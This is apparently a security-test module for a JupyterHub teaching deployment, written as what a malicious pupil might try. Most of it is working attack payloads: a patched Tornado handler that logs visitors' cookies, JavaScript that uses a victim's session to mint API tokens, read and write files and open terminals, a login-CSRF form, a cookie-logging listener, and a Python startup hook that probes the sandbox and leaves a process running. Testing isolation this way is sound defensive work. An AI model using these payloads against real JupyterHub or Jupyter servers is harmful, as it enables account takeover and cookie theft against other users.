"""What a pupil may try who wants more than is theirs: pages of their own, and programs."""

# Jupyter reads it from the pupil's home, so each of the pupil's servers answers /gift to anybody,
# and remembers what browsers send with it.
SERVER = """
from pathlib import Path
from tornado import web

class Gift(web.RequestHandler):
    def get(self):
        with open(Path.home() / "cookies", "a") as file:
            file.write(self.request.headers.get("Cookie", "") + "\\n")
        self.write((Path.home() / "gift.html").read_text())

find_handler = web.Application.find_handler
def find_mine(self, request, **rest):
    if request.path.endswith("/gift"):
        return self.get_handler_delegate(request, Gift)
    return find_handler(self, request, **rest)
web.Application.find_handler = find_mine
"""
# The page: it uses the sign-in of who opens it, by requests and by windows whose scripts it calls.
PAGE = """
<script>
const [hub, server, name, port] = JSON.parse(decodeURIComponent(location.hash.slice(1)));
const tokens = `${hub}/hub/api/users/${name}/tokens`;
const rights = JSON.stringify({scopes: ["inherit"], note: "stolen"});
const ask = (way, address, method, token, body, more) =>
    way(address, {method, body, credentials: "include", ...more,
                  headers: token ? {"X-XSRFToken": token, "Content-Type": "application/json"} : {}})
        .then(async answer => [answer.status, (await answer.text()).slice(0, 200)]);
async function inside(address) {
    const other = open(address);
    for (let i = 0; i < 100; i++) {
        await new Promise(next => setTimeout(next, 100));
        const {location, document} = other;
        if (location.href !== "about:blank" && document.readyState === "complete") break;
    }
    return other;
}
const token = other => other.document.cookie.match(/_xsrf=([^;]+)/)[1];
const tries = {
    users: () => ask(fetch, `${hub}/hub/api/users`, "GET"),
    mint: () => ask(fetch, tokens, "POST", null, rights),
    files: () => ask(fetch, `${server}/api/contents`, "GET"),
    terminal: () => ask(fetch, `${server}/api/terminals`, "POST"),
    program: () => ask(fetch, `${server}/proxy/${port}/forged`, "GET", null, undefined,
                       {mode: "no-cors"}),
    "program: form": () => ask(fetch, `${server}/proxy/${port}/forged`, "POST", null, "x",
                               {mode: "no-cors"}),
    "program: socket": () => new Promise((opened, refused) => {
        const socket = new WebSocket(`${server}/proxy/${port}/forged`);
        socket.onopen = () => opened([101, "open"]);
        socket.onerror = () => refused("no connection");
    }),
    blindly: () => ask(fetch, tokens, "POST", null, rights, {mode: "no-cors"}),
    "window: mint": async () => {
        const other = await inside(`${hub}/hub/token`);
        return ask(other.fetch, tokens, "POST", token(other), rights);
    },
    "window: files": async () => {
        const other = await inside(`${server}/lab`);
        return ask(other.fetch, `${server}/api/contents`, "GET", token(other));
    },
    "window: write": async () => {
        const other = await inside(`${server}/lab`);
        const file = JSON.stringify({type: "file", format: "text", content: "mine"});
        return ask(other.fetch, `${server}/api/contents/stolen`, "PUT", token(other), file);
    },
    "window: terminal": async () => {
        const other = await inside(`${server}/lab`);
        return ask(other.fetch, `${server}/api/terminals`, "POST", token(other));
    },
};
(async () => {
    const happened = {};
    for (const [what, attempt] of Object.entries(tries))
        happened[what] = await attempt().catch(error => [0, String(error)]);
    const domain = location.hostname.split(".").slice(1).join(".");
    document.cookie = `jupyterhub-hub-login=mine; Domain=${domain}; Path=/hub/`;
    window.happened = happened;
})();
</script>
"""
# Signs in whoever opens her page as her: the form of the Hub, and the cookies that it belongs to.
SIGN_IN = """
([address, name, password, token, session]) => {
    const domain = new URL(address).hostname;
    document.cookie = `_xsrf=${token}; Domain=${domain}; Path=/hub/`;
    document.cookie = `jupyterhub-session-id=${session}; Domain=${domain}; Path=/hub/`;
    const form = document.createElement("form");
    form.method = "POST";
    form.action = `${address}/hub/login?next=/hub/home`;
    for (const [key, value] of Object.entries({username: name, password, _xsrf: token})) {
        const input = document.createElement("input");
        input.name = key;
        input.value = value;
        form.append(input);
    }
    document.body.append(form);
    form.submit();
}
"""
# A web server for whoever comes, at these ports of the machine, each as soon as it is free; it
# remembers each request and its cookies.
PORT = 9999
LISTENER = """
import http.server, sys, threading, time
class Gift(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open("requests-of-the-port", "a") as file:
            file.write(f"{self.path} {self.headers.get('Cookie', '')}" + chr(10))
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"gift")
    do_POST = do_GET
def serve(port):
    while True:
        try:
            server = http.server.ThreadingHTTPServer(("", port), Gift)
        except OSError:
            time.sleep(0.01)
        else:
            return server.serve_forever()
for port in sys.argv[1:]:
    threading.Thread(target=serve, args=[int(port)]).start()
"""
# Each Python that Mallory starts runs it. If it packs, it says what it may do and tries to move the
# terminal's cursor, and leaves a program behind.
CUSTOMIZE = r"""
import os, subprocess, sys
from pathlib import Path
if sys.orig_argv[-1] == "pack":
    locked = Path("/proc/self/status").read_text().split("NoNewPrivs:")[1].split()[0]
    terminal = any(os.isatty(number) for number in range(3))
    bus = os.path.exists("/run/dbus/system_bus_socket")
    print(f"no new rights: {locked}, terminal: {terminal}, bus: {bus}, \033[2J", file=sys.stderr)
    subprocess.Popen(["sleep", "infinity"], start_new_session=True)
"""
